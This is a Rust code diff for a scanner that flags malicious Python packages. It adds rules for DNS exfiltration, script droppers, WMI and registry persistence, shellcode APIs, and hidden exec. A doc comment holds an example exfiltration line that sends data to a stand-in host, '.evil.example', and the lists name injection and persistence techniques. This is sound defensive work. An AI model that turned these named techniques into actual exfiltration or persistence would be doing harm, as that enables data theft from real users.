@@ -7,7 +7,7 @@
 //! combined per file, following data from sources to sinks ([`crate::flow`]):
 //! a decoder feeding `exec` is one critical finding, not two medium ones.
 
-use std::collections::HashMap;
+use rustc_hash::FxHashMap as HashMap;
 
 use crate::flow::{self, FETCHERS, HOSTILE_FRAGMENTS, Labels, arg_labels, matches};
 use crate::python::{Call, Facts};
@@ -15,6 +15,32 @@ use crate::report::{Capabilities, Finding, Severity};
 
 const EXECUTORS: &[&str] = &["eval", "exec", "compile", "execfile", "runpy.run_path", "types.FunctionType"];
 const IMPORTERS: &[&str] = &["__import__", "importlib.import_module"];
+/// Calls that run the code in a file.
+const CODE_LOADERS: &[&str] = &[
+    "runpy.run_path",
+    "runpy.run_module",
+    "imp.load_source",
+    "importlib.machinery.SourceFileLoader",
+    "importlib.util.spec_from_file_location",
+    "?.exec_module",
+    "?.load_module",
+    "execfile",
+    "?.LoadFrom",
+    "?.LoadFile",
+    "clr.AddReferenceToFileAndPath",
+];
+/// Name lookups: `socket.gethostbyname(data + ".evil.example")` leaks data in DNS.
+const DNS_LOOKUPS: &[&str] = &[
+    "socket.gethostbyname",
+    "socket.gethostbyname_ex",
+    "socket.getaddrinfo",
+    "dns.resolver.resolve",
+    "dns.resolver.query",
+    "?.resolve",
+];
+/// Calls that write their argument into a file.
+const CONTENT_WRITERS: &[&str] =
+    &["?.write", "?.writelines", "?.write_text", "?.write_bytes", "?.WriteAllText", "?.WriteAllBytes"];
 const PROCESS: &[&str] = &[
     "os.system",
     "os.popen",
@@ -290,7 +316,12 @@ pub fn check_python(file: &str, facts: &Facts, package: &str, caps: &mut Capabil
 
     for c in &facts.calls {
         let name = c.name.as_str();
-        let labels = labels_of(c);
+        // Most calls (`len`, `self.update`) concern no rule: skip them cheaply.
+        if !interesting(c) {
+            continue;
+        }
+        // Labels cost a pass over the arguments: only sinks need them.
+        let labels = if needs_labels(c) { labels_of(c) } else { Labels::NONE };
         dynamic_code(&mut out, c, labels);
         processes(&mut out, c, labels, caps);
         network(&mut out, c, labels, caps);
@@ -313,6 +344,7 @@ pub fn check_python(file: &str, facts: &Facts, package: &str, caps: &mut Capabil
             );
         }
         native(&mut out, c, labels);
+        smuggling(&mut out, c, labels);
         registry(&mut out, c, labels, &sense, caps);
         files(&mut out, c, &vars, package, caps);
         if matches(name, &["?.SetClipboardData", "?.SetText", "pyperclip.copy", "clipboard.copy", "?.SetDataObject"])
@@ -353,6 +385,88 @@ pub fn check_python(file: &str, facts: &Facts, package: &str, caps: &mut Capabil
         }
     }
     out.findings
+}
+
+fn last_segment(name: &str) -> &str {
+    name.rsplit('.').next().unwrap_or(name)
+}
+
+/// The last segments of every call name a per-call rule looks at.
+static INTERESTING: std::sync::LazyLock<rustc_hash::FxHashSet<&'static str>> = std::sync::LazyLock::new(|| {
+    let lists: &[&[&str]] = &[
+        EXECUTORS,
+        IMPORTERS,
+        PROCESS,
+        NETWORK,
+        FETCHERS,
+        SENDERS,
+        DESERIALIZE,
+        DELETERS,
+        DNS_LOOKUPS,
+        CONTENT_WRITERS,
+        CODE_LOADERS,
+        DOWNLOAD_TO_FILE,
+    ];
+    let extra = [
+        "load",
+        "unsafe_load",
+        "VirtualAlloc",
+        "VirtualAllocEx",
+        "CreateThread",
+        "CreateRemoteThread",
+        "RtlMoveMemory",
+        "WriteProcessMemory",
+        "VirtualProtect",
+        "Load",
+        "AddReferenceToFile",
+        "CDLL",
+        "WinDLL",
+        "LoadLibrary",
+        "SetValueEx",
+        "SetValue",
+        "CreateKey",
+        "CreateKeyEx",
+        "CreateSubKey",
+        "RegSetValueEx",
+        "open",
+        "write_text",
+        "write_bytes",
+        "copy",
+        "copy2",
+        "copyfile",
+        "move",
+        "Copy",
+        "SetClipboardData",
+        "SetText",
+        "SetDataObject",
+    ];
+    lists.iter().flat_map(|l| l.iter()).map(|n| last_segment(n)).chain(extra).collect()
+});
+
+fn interesting(c: &Call) -> bool {
+    let n = c.name.as_str();
+    INTERESTING.contains(last_segment(n))
+        || ["ctypes.", "win32api.", "winreg.", "_winreg.", "Registry.", "Microsoft."].iter().any(|p| n.starts_with(p))
+        || n.contains("Registry")
+        || n.contains("lipboard")
+        || c.args.iter().any(|a| a.literal.is_none() && EXECUTORS.contains(&a.text.trim()))
+}
+
+/// Calls whose rules look at where their arguments come from.
+fn needs_labels(c: &Call) -> bool {
+    let n = c.name.as_str();
+    executor_name(c).is_some()
+        || [IMPORTERS, PROCESS, SENDERS, DESERIALIZE, DNS_LOOKUPS, CONTENT_WRITERS, CODE_LOADERS]
+            .iter()
+            .any(|l| matches(n, l))
+        || n.starts_with("yaml.")
+        || n.ends_with(".Load")
+        || n.starts_with("winreg.")
+        || n.starts_with("_winreg.")
+        || n.contains("Registry")
+        || ["SetValueEx", "SetValue", "CreateKey", "CreateKeyEx", "CreateSubKey", "RegSetValueEx"]
+            .iter()
+            .any(|w| n.ends_with(w))
 }
 
 fn is_access_key(s: &str) -> bool {
@@ -466,6 +580,33 @@ fn network(out: &mut Out<'_>, c: &Call, labels: Labels, caps: &mut Capabilities)
     }
 }
 
+/// Data hidden in DNS names, hostile scripts written to disk, files written
+/// where the path had to be decoded.
+fn smuggling(out: &mut Out<'_>, c: &Call, labels: Labels) {
+    let name = c.name.as_str();
+    if matches(name, DNS_LOOKUPS)
+        && c.args.first().is_some_and(|a| a.literal.is_none())
+        && (labels.has(Labels::ENCODED) || labels.has(Labels::CREDENTIAL) || labels.has(Labels::ENVIRONMENT))
+    {
+        out.push(
+            "dns-exfiltration",
+            Severity::High,
+            "credentials",
+            c,
+            "looks up host names built from encoded data: data leaving through DNS".into(),
+        );
+    }
+    if matches(name, CONTENT_WRITERS) && labels.has(Labels::HOSTILE) {
+        out.push(
+            "script-dropper",
+            Severity::High,
+            "process",
+            c,
+            "writes a script of the kind malware drops (downloader, hidden shell, scheduled task)".into(),
+        );
+    }
+}
+
 fn has_raw_ip_url(s: &str) -> bool {
     for scheme in ["http://", "https://", "tcp://", "ftp://"] {
         let mut rest = s;
@@ -499,7 +640,7 @@ fn native(out: &mut Out<'_>, c: &Call, labels: Labels) {
         "VirtualProtect",
     ]
     .iter()
-    .any(|s| name.ends_with(&format!(".{s}")));
+    .any(|s| last_segment(name) == *s && name.contains('.'));
     if shellcode {
         out.push(
             "native-shellcode",
@@ -559,7 +700,7 @@ fn registry(out: &mut Out<'_>, c: &Call, labels: Labels, sense: &FileSense<'_>, 
         || name.starts_with("win32api.Reg");
     let writes = ["SetValueEx", "SetValue", "CreateKey", "CreateKeyEx", "CreateSubKey", "RegSetValueEx"]
         .iter()
-        .any(|w| name.ends_with(&format!(".{w}")));
+        .any(|w| last_segment(name) == *w && name.contains('.'));
     if !is_registry && !writes {
         return;
     }
@@ -571,7 +712,8 @@ fn registry(out: &mut Out<'_>, c: &Call, labels: Labels, sense: &FileSense<'_>, 
     let run_key = RUN_KEYS.iter().any(|k| args.contains(k))
         || sense.mentions(RUN_KEYS).is_some()
         || labels.has(Labels::DECODED)
-        || labels.has(Labels::STARTUP);
+        || labels.has(Labels::STARTUP)
+        || labels.has(Labels::RUN_KEY);
     if writes && run_key {
         out.push(
             "persistence-registry",
@@ -622,6 +764,15 @@ fn files(out: &mut Out<'_>, c: &Call, vars: &HashMap<String, Labels>, package: &
         } else {
             c.args.first().map_or(Labels::NONE, |a| arg_labels(a, vars))
         };
+        if dest_labels.has(Labels::DECODED) && !dest_labels.has(Labels::FETCHED) {
+            out.push(
+                "hidden-destination",
+                Severity::High,
+                "obfuscation",
+                c,
+                "writes to a path that had to be decoded or reversed first (hiding where it writes)".into(),
+            );
+        }
         if STARTUP_MARKERS.iter().any(|m| all.contains(m))
             || all.contains("startup") && all.contains("start menu")
             || dest_labels.has(Labels::STARTUP)
@@ -662,7 +813,7 @@ fn whole_file(out: &mut Out<'_>, sense: &FileSense<'_>, vars: &HashMap<String, L
     let facts = sense.facts;
     let uses_socket = facts.calls.iter().any(|c| c.name.starts_with("socket.") || c.name.ends_with(".connect"))
         && facts.imports.iter().any(|(m, _)| m == "socket");
-    let runs = sense.any_call(PROCESS);
+    let runs = sense.any_call(PROCESS).or_else(|| sense.any_call(CODE_LOADERS));
     let dup2 = facts.calls.iter().any(|c| c.name == "os.dup2" || c.name == "pty.spawn" || c.name.ends_with("fileno"));
     if uses_socket
         && (dup2
@@ -799,6 +950,47 @@ fn whole_file(out: &mut Out<'_>, sense: &FileSense<'_>, vars: &HashMap<String, L
             "credentials",
             line,
             "watches the clipboard for wallet addresses and replaces them".into(),
+        );
+    }
+
+    // WMI permanent event subscriptions run a command on an event, forever.
+    if let Some(line) =
+        sense.mentions(&["commandlineeventconsumer", "activescripteventconsumer", "__filtertoconsumerbinding"])
+    {
+        out.push_at(
+            "persistence-wmi",
+            Severity::High,
+            "persistence",
+            line,
+            "creates a WMI event subscription that runs a command (persistence)".into(),
+        );
+    }
+
+    // A builtin fetched by a computed name, and decoded data handed to a
+    // callable that cannot be named: `getattr(builtins, name)(payload)`.
+    let dynamic_builtin = facts.calls.iter().any(|c| {
+        c.name == "getattr"
+            && c.args
+                .first()
+                .is_some_and(|a| a.names.iter().any(|n| n.contains("builtins") || n.contains("__builtin__")))
+            && c.args.get(1).is_some_and(|a| a.literal.is_none())
+    });
+    if dynamic_builtin
+        && let Some(c) = facts.calls.iter().find(|c| {
+            (c.name == "?" || c.name.starts_with("self.") || c.name.starts_with("cls."))
+                && c.args.iter().any(|a| {
+                    let l = arg_labels(a, vars);
+                    l.has(Labels::DECODED) || l.has(Labels::FETCHED)
+                })
+        })
+        && !out.findings.iter().any(|f| f.rule == "exec-decoded" || f.rule == "exec-downloaded")
+    {
+        out.push(
+            "exec-decoded",
+            Severity::Critical,
+            "dynamic-code",
+            c,
+            "hands decoded data to a builtin looked up by a computed name (a hidden exec or eval)".into(),
         );
     }
 
